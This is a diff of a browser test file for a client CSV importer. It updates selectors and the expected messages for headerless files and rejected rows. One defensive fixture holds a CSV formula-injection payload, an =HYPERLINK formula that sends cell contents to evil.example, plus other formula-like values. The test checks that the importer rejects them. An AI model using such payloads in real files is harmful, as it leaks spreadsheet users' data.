@@ -151,15 +151,22 @@ describe('client CSVs', () => {
     // Chromium's File.text() honours a UTF-16 BOM; a browser that does not (the spec's UTF-8 decode) gets the refusal above.
     expect(await choose('clients', 'unicode-bom.csv', utf16le('name,aliases\r\nMaría José Pérez,Majo\r\n'))).toBe('');
     const preview = page.locator('[data-import-preview="clients"]');
-    expect(await preview.locator('table:not(.rejected) tbody tr').allInnerTexts()).toEqual([
+    expect(await preview.locator('table[data-import-new] tbody tr').allInnerTexts()).toEqual([
       expect.stringMatching(/^María José Pérez\s+Majo/),
     ]);
     await preview.getByRole('button', { name: 'Cancel' }).click();
     await expectNothingChanged();
   });
 
-  it('no header row: refused, saying what the first row held', async () => {
-    expect(await choose('clients', 'no-header.csv', 'María José Pérez,Majo\r\n')).toMatch(/Missing header: .*"maría josé pérez", "majo"/);
+  it('no header row: the column mapping shows what the first row held, says no column is the name, and stores nothing', async () => {
+    const path = join(dir, 'no-header.csv');
+    await writeFile(path, 'María José Pérez,Majo\r\n');
+    await page.locator('input[type=file][data-import="clients"]').setInputFiles(path);
+    const alert = page.locator('[data-import-no-name]');
+    await alert.waitFor();
+    expect(await alert.textContent()).toMatch(/^No column is read as the name/);
+    expect(await page.locator('[data-import-columns]').textContent()).toContain('María José Pérez');
+    expect(await page.locator('[data-import-confirm]:not([disabled])').count()).toBe(0);
     await expectNothingChanged();
   });
 
@@ -170,12 +177,13 @@ describe('client CSVs', () => {
       'name,aliases\r\n"=HYPERLINK(""https://evil.example/?""&A1,""Click"")",\r\nSam Lee,"@SUM(A1)"\r\n+1+1,\r\nRobin Park,\r\n',
     );
     const rejected = await page.locator('[data-import-preview="clients"] table.rejected tbody tr').allInnerTexts();
+    // Each problem once, with the lines it holds (issue 15).
     expect(rejected.map((r) => r.replace(/\s+/g, ' ').trim())).toEqual([
-      expect.stringMatching(/^2 =HYPERLINK.*looks like a spreadsheet formula$/),
-      expect.stringMatching(/^3 Sam Lee "@SUM\(A1\)" looks like a spreadsheet formula$/),
-      expect.stringMatching(/^4 \+1\+1 .*formula$/),
+      expect.stringMatching(/^"=HYPERLINK.*looks like a spreadsheet formula line 2 /),
+      expect.stringMatching(/^"@SUM\(A1\)" looks like a spreadsheet formula line 3 “Sam Lee”$/),
+      expect.stringMatching(/^"\+1\+1" looks like a spreadsheet formula line 4 /),
     ]);
-    expect(await page.locator('[data-import-preview="clients"] table:not(.rejected) tbody tr').allInnerTexts()).toEqual([
+    expect(await page.locator('[data-import-preview="clients"] table[data-import-new] tbody tr').allInnerTexts()).toEqual([
       expect.stringContaining('Robin Park'),
     ]);
     await page.locator('[data-import-preview="clients"]').getByRole('button', { name: 'Cancel' }).click();
